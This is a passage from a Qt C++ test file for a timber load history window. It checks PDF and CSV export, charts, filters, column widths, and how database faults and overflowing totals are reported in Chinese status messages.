    m_window->findChild<QTabWidget*>(QStringLiteral("tabs"))->setCurrentIndex(1);
    m_savePath = m_dir->filePath(QStringLiteral("没有的文件夹/报表.pdf"));
    m_answers->setNextAnswer(MessageAnswer::Ok);
    QTest::mouseClick(push("pdfButton"), Qt::LeftButton);
    QCOMPARE(m_answers->shown.size(), 1);
    QVERIFY(m_answers->shown.first().text.startsWith(QStringLiteral("报表没有保存：")));
}

void TestHistoryWindow::reportPrintsAsPdfWithItsTitle()
{
    m_window->findChild<QTabWidget*>(QStringLiteral("tabs"))->setCurrentIndex(1);
    m_savePath = m_dir->filePath(QStringLiteral("报表.pdf"));
    QTest::mouseClick(push("pdfButton"), Qt::LeftButton);
    QFile pdf(m_savePath);
    QVERIFY(pdf.open(QIODevice::ReadOnly));
    QVERIFY(pdf.read(5) == "%PDF-");
    const QString text = pdfText(m_savePath);
    QVERIFY2(text.contains(QStringLiteral("木材出入库报表（按树种）2026-12-01 至 2026-12-31")),
        qPrintable(text));
    QVERIFY2(text.contains(QStringLiteral("杉木")) && text.contains(QStringLiteral("4.8824")),
        qPrintable(text));
    QVERIFY(label("statusLabel")->text().contains(m_savePath));
    // Simplified Chinese faces only.
    QProcess fonts;
    fonts.start(QStringLiteral("pdffonts"), { m_savePath });
    QVERIFY(fonts.waitForFinished(30000));
    const QString faces = QString::fromUtf8(fonts.readAllStandardOutput());
    QVERIFY2(!faces.contains(QStringLiteral("CJKjp")), qPrintable(faces));
    // The volume axis reads in steps of its own precision, never 30.0000.
    const QChart* chart = m_window->findChild<QChartView*>(QStringLiteral("reportChart"))->chart();
    for (const QAbstractAxis* axis : chart->axes(Qt::Vertical)) {
        const auto* values = qobject_cast<const QValueAxis*>(axis);
        QVERIFY(values);
        const QString top = QString::asprintf(qPrintable(values->labelFormat()), values->max());
        QVERIFY2(!top.contains(QRegularExpression(QStringLiteral("\\.\\d*00$"))), qPrintable(top));
        QCOMPARE(values->titleText(), QStringLiteral("m³"));
    }
}

void TestHistoryWindow::failedReadIsShownInTheWindowNotInBoxes()
{
    {
        SqliteHistoryStore other(m_store->location());
        QSqlQuery rename(other.database());
        QVERIFY(rename.exec(QStringLiteral("ALTER TABLE loads RENAME TO loads_away")));
    }
    m_window->refresh();
    QLabel* status = label("statusLabel");
    QCOMPARE(status->text(),
        QStringLiteral("合计读不出来：历史数据库“quorvane.sqlite”出错，请稍后再试。"));
    QCOMPARE(table()->model()->rowCount(), 0);
    QVERIFY(!push("openButton")->isEnabled());
    {
        SqliteHistoryStore other(m_store->location());
        QSqlQuery rename(other.database());
        QVERIFY(rename.exec(QStringLiteral("ALTER TABLE loads_away RENAME TO loads")));
    }
    m_window->refresh();
    QCOMPARE(status->text(), QString());
    QCOMPARE(table()->model()->rowCount(), 4);
}

// A load whose stored texts do not read is not handed to the tally sheet as
// an empty one.
void TestHistoryWindow::damagedLoadIsNotHandedOver()
{
    {
        SqliteHistoryStore other(m_store->location());
        QSqlQuery damage(other.database());
        QVERIFY(damage.exec(QStringLiteral("UPDATE loads SET detail = '{\"grid\": 3' WHERE id = %1")
                                .arg(m_loads[1].id)));
    }
    QSignalSpy opened(m_window.get(), &History::openLoadRequested);
    table()->selectRow(3); // the oldest of the month
    QTest::mouseClick(push("openButton"), Qt::LeftButton);
    QCOMPARE(opened.size(), 0);
    QCOMPARE(label("statusLabel")->text(), QStringLiteral("这一车的记录已损坏，无法打开。"));
    table()->selectRow(0);
    QTest::mouseClick(push("openButton"), Qt::LeftButton);
    QCOMPARE(opened.size(), 1);
}

// The species box used to stay at 全部 with no word of why.
void TestHistoryWindow::speciesNotReadIsSaidUntilTheyAre()
{
    FailingReader reader(*m_store);
    reader.speciesFail = true;
    History window(reader, *m_spreadsheet, [] { return today; });
    auto* status = window.findChild<QLabel*>(QStringLiteral("statusLabel"));
    const QString said
        = QStringLiteral("树种读不出来：历史数据库“quorvane.sqlite”正被其他程序占用，请稍后再试。");
    QCOMPARE(status->text(), said);
    window.findChild<QComboBox*>(QStringLiteral("kindFilter"))->setCurrentIndex(1);
    QCOMPARE(window.findChild<QLabel*>(QStringLiteral("totalsLabel"))->text(),
        QStringLiteral("共 2 车，件数 17，材积 5.3824 m³，金额 4305.92 元"));
    QCOMPARE(status->text(), said);
    reader.speciesFail = false;
    window.refresh();
    QCOMPARE(status->text(), QString());
    QCOMPARE(window.findChild<QComboBox*>(QStringLiteral("speciesFilter"))->count(), 3);
}

// A listing that breaks off used to be exported as far as it had got.
void TestHistoryWindow::exportOfRowsNotAllReadWritesNothing()
{
    FailingReader reader(*m_store);
    reader.listingBreaks = true;
    History window(reader, *m_spreadsheet, [] { return today; });
    m_savePath = m_dir->filePath(QStringLiteral("断开.csv"));
    window.setSavePathAsker(
        [this](const QString&, const QString&, const QString&) { return m_savePath; });
    QSignalSpy exported(&window, &History::exported);
    QTest::mouseClick(window.findChild<QPushButton*>(QStringLiteral("csvButton")), Qt::LeftButton);
    QCOMPARE(exported.size(), 0);
    QVERIFY(!QFileInfo::exists(m_savePath));
    QCOMPARE(window.findChild<QLabel*>(QStringLiteral("statusLabel"))->text(),
        QStringLiteral("记录读不出来：历史数据库“quorvane.sqlite”正被其他程序占用，请稍后再试。"));
}

void TestHistoryWindow::refreshShowsNewLoadsKeepingFiltersAndSort()
{
    combo("kindFilter")->setCurrentIndex(1);
    table()->horizontalHeader()->setSortIndicator(
        shownIndex(LoadColumn::Volume), Qt::AscendingOrder);
    QCOMPARE(column(shownIndex(LoadColumn::Volume)), (QStringList { "2.2590", "3.1234" }));
    LoadRecord cypress
        = sampleLoad(LoadKind::StockIn, "2026-12-09 14:00", "柏木", "2", "0.9000", "720.00");
    m_store->record(cypress);
    LoadRecord elsewhere
        = sampleLoad(LoadKind::StockIn, "2026-12-09 15:00", "柏木", "1", "0.1000", "80.00");
    elsewhere.station = QStringLiteral("二站");
    elsewhere.stationNumber = 7;
    QVERIFY(m_store->receive(elsewhere));
    m_window->refresh();
    QCOMPARE(column(shownIndex(LoadColumn::Volume)),
        (QStringList { "0.1000", "0.9000", "2.2590", "3.1234" }));
    QCOMPARE(combo("speciesFilter")->findText(QStringLiteral("柏木")), 3);
    QCOMPARE(label("totalsLabel")->text(),
        QStringLiteral("共 4 车，件数 20，材积 6.3824 m³，金额 5105.92 元"));

    QVERIFY(table()->isColumnHidden(shownIndex(LoadColumn::Station)));
    QVERIFY(!combo("stationFilter")->isVisible());
    m_window->setStationsShown(true);
    QVERIFY(!table()->isColumnHidden(shownIndex(LoadColumn::Station)));
    QComboBox* stations = combo("stationFilter");
    QVERIFY(stations->isVisible());
    stations->setCurrentIndex(stations->findText(QStringLiteral("二站")));
    QCOMPARE(label("totalsLabel")->text(),
        QStringLiteral("共 1 车，件数 1，材积 0.1000 m³，金额 80.00 元"));
}

// The pictures are kept for a look; the test checks what a look would:
// every figure and heading fits its column, and the chart has its bars.
// A history edited by hand: a buyer of 10 MB and amounts whose sum leaves
// the 64-bit range. The table shows the start of the text, the export takes
// what is read, and every total that cannot be added says so, with no
// failure of the store named. (The time each takes is in bench/.)
void TestHistoryWindow::handEditedHistoryStaysBoundedAndSaysItsTotalsAreOutOfRange()
{
    const QString huge = QStringLiteral("木材公司").repeated(900000);
    QSqlQuery edit(m_store->database());
    QVERIFY(edit.prepare(QStringLiteral("UPDATE loads SET buyer = ? WHERE id = ?")));
    edit.addBindValue(huge);
    edit.addBindValue(m_loads[1].id);
    QVERIFY(edit.exec());
    QVERIFY(edit.exec(
        QStringLiteral("UPDATE loads SET amount_fen = 9223372036854775000 WHERE id IN (%1, %2)")
            .arg(m_loads[1].id)
            .arg(m_loads[3].id)));
    m_window->refresh();
    QCOMPARE(label("totalsLabel")->text(), QStringLiteral("合计超出范围"));
    QCOMPARE(label("statusLabel")->text(), QString());

    QHeaderView* header = table()->horizontalHeader();
    for (Qt::SortOrder order : { Qt::AscendingOrder, Qt::DescendingOrder }) {
        header->setSortIndicator(shownIndex(LoadColumn::Buyer), order);
        QCOMPARE(table()->model()->rowCount(), 4);
        const QString shown = table()
                                  ->model()
                                  ->index(rowOfBuyer(huge.left(LoadTableModel::shownTextLength)),
                                      shownIndex(LoadColumn::Buyer))
                                  .data()
                                  .toString();
        QCOMPARE(shown, huge.left(LoadTableModel::shownTextLength));
    }
    m_savePath = m_dir->filePath(QStringLiteral("超出.csv"));
    QTest::mouseClick(push("csvButton"), Qt::LeftButton);
    QFile file(m_savePath);
    QVERIFY(file.open(QIODevice::ReadOnly));
    const QString csv = QString::fromUtf8(file.readAll());
    QVERIFY(csv.contains(huge.left(storedTextLength) + u','));
    QVERIFY(!csv.contains(huge.left(storedTextLength + 1)));
    QVERIFY2(csv.endsWith(
                 QStringLiteral("合计,,合计超出范围") + QString(11, u',') + QStringLiteral("\r\n")),
        qPrintable(csv.right(80)));

    m_window->findChild<QTabWidget*>(QStringLiteral("tabs"))->setCurrentIndex(1);
    auto* report = m_window->findChild<QTableWidget*>(QStringLiteral("reportTable"));
    QCOMPARE(report->rowCount(), 3);
    QCOMPARE(report->item(0, 3)->text(), QStringLiteral("92233720368547750.00"));
    QCOMPARE(report->item(2, 3)->text(), QStringLiteral("超出范围"));
    QCOMPARE(report->item(2, 2)->text(), QStringLiteral("5.3824"));
    QVERIFY(!label("statusLabel")->text().contains(QStringLiteral("读不出来")));
}

void TestHistoryWindow::picturesOfBothTabsShowEveryText()
{
    LoadRecord big = sampleLoad(LoadKind::Bill, "2026-12-08 07:30", "落叶松", "99999", "99999.9999",
        "9999999.99", QStringLiteral("某某县木材有限公司"));
    m_store->record(big);
    LoadRecord larch
        = sampleLoad(LoadKind::StockIn, "2026-12-08 08:10", "落叶松", "12", "4.5000", "3600.00");
    m_store->record(larch);
    m_window->refresh();
    const QString folder = QStringLiteral(QUORVANE_SCREENSHOTS);
    QDir().mkpath(folder);
    QVERIFY(m_window->grab().save(QDir(folder).filePath(QStringLiteral("loads.png"))));
    const QFontMetrics metrics = table()->fontMetrics();
    const QFontMetrics headingMetrics = table()->horizontalHeader()->fontMetrics();
    for (int c = 0; c <= shownIndex(LoadColumn::Amount); ++c) {
        int widest = headingMetrics.horizontalAdvance(
                         table()->model()->headerData(c, Qt::Horizontal).toString())
            + 16;
        for (const QString& text : column(c))
            widest = std::max(widest, metrics.horizontalAdvance(text) + 8);
        QVERIFY2(table()->columnWidth(c) >= widest,
            qPrintable(QStringLiteral("column %1 is %2 wide, its texts %3")
                           .arg(c)
                           .arg(table()->columnWidth(c))
                           .arg(widest)));
    }
    for (const QString& line : label("totalsLabel")->text().split(u'\n'))
        QVERIFY(metrics.horizontalAdvance(line) <= label("totalsLabel")->width());

    m_window->findChild<QTabWidget*>(QStringLiteral("tabs"))->setCurrentIndex(1);
    auto* report = m_window->findChild<QTableWidget*>(QStringLiteral("reportTable"));
    // The chart lays itself out on the next turns of the event loop.
    for (int turn = 0; turn < 3; ++turn)
        QCoreApplication::processEvents();
    QVERIFY(m_window->grab().save(QDir(folder).filePath(QStringLiteral("report.png"))));
    m_savePath = QDir(folder).filePath(QStringLiteral("report.pdf"));
    QTest::mouseClick(push("pdfButton"), Qt::LeftButton);
    QVERIFY(QFileInfo::exists(m_savePath));
    for (int c = 0; c < report->columnCount(); ++c)
        for (int r = 0; r < report->rowCount(); ++r)
            QVERIFY(report->columnWidth(c)
                >= report->fontMetrics().horizontalAdvance(report->item(r, c)->text()));
    auto* bars = qobject_cast<QBarSeries*>(
        m_window->findChild<QChartView*>(QStringLiteral("reportChart"))->chart()->series().first());
    QCOMPARE(bars->barSets()[0]->count(), 3);
}

QTEST_MAIN(TestHistoryWindow)
#include "test_history_window.moc"
